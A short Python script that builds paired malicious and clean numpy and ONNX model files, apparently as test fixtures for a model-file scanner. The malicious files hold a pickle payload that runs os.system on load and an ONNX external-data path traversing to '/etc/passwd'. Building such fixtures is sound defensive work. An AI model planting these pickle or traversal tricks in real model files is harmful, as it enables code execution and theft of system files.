import numpy as np, os, sys
class Evil:
    def __reduce__(self):
        return (os.system, ('id',))
rng = np.random.default_rng(0)
big = rng.standard_normal(300 * 2**20 // 4, dtype=np.float32)
np.savez_compressed('arrays.npz', big=big, obj=np.array([Evil()], dtype=object))
np.savez_compressed('clean.npz', big=big)
try:
    import onnx
    from onnx import helper, numpy_helper, TensorProto
except ImportError:
    sys.exit(0)
w = numpy_helper.from_array(big.reshape(-1, 1024), name='w')
ext = helper.make_tensor('ext', TensorProto.FLOAT, [1], [0.0])
ext.data_location = TensorProto.EXTERNAL
ext.ClearField('float_data')
e = ext.external_data.add(); e.key = 'location'; e.value = '../../../etc/passwd'
n1 = helper.make_node('MatMul', ['x', 'w'], ['y'])
n2 = helper.make_node('Backdoor', ['y'], ['z'], domain='evil.custom')
g = helper.make_graph([n1, n2], 'g', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [1, 76800])],
                      [helper.make_tensor_value_info('z', TensorProto.FLOAT, None)], initializer=[w, ext])
m = helper.make_model(g, opset_imports=[helper.make_opsetid('', 17), helper.make_opsetid('evil.custom', 1)])
open('model.onnx', 'wb').write(m.SerializeToString())
g2 = helper.make_graph([n1], 'g', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [1, 76800])],
                      [helper.make_tensor_value_info('y', TensorProto.FLOAT, None)], initializer=[w])
open('clean.onnx', 'wb').write(helper.make_model(g2, opset_imports=[helper.make_opsetid('', 17)]).SerializeToString())
